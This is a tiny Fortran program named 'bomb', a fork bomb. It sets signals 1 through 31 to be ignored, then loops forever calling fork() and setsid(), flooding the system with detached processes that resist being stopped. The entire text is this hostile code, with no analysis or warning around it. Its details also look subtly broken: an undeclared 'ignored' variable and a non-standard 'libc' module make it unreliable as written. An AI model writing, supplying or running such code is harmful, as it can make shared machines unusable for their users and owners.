program bomb
  use libc
  integer :: number, ignore
  integer(c_intptr_t) :: before
  do number = 1, 31
    before = signal(number, ignored)
  end do
  do
    ignore = fork()
    ignore = setsid()
  end do
end program
